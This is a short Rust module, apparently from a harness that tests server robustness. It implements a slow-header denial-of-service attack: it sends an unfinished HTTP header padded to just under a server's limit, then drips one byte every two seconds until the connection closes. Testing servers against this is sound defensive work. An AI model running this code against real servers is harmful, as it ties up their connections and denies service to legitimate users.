use std::time::Duration;

use anyhow::Result;
use tokio::io::AsyncWriteExt;

use super::attacker::{Attacker, wait_for_end};

/// The time between two bytes.
const PAUSE: Duration = Duration::from_secs(2);

/// How much of the head is sent at once: little less than a server accepts.
const PADDING: usize = 15_000;

/// Sends the head of a request, in the end byte by byte, until the server closes the
/// connection.
pub async fn send(attacker: &Attacker) -> Result<()> {
    let mut stream = attacker.connect().await?;
    attacker.note_sent(1);
    stream
        .write_all(b"GET / HTTP/1.1\r\nHost: localhost\r\nX: ")
        .await?;
    stream.write_all(&[b'x'; PADDING]).await?;
    loop {
        if let Ok(ended) = tokio::time::timeout(PAUSE, wait_for_end(&mut stream)).await {
            return ended;
        }
        stream.write_all(b"x").await?;
    }
}
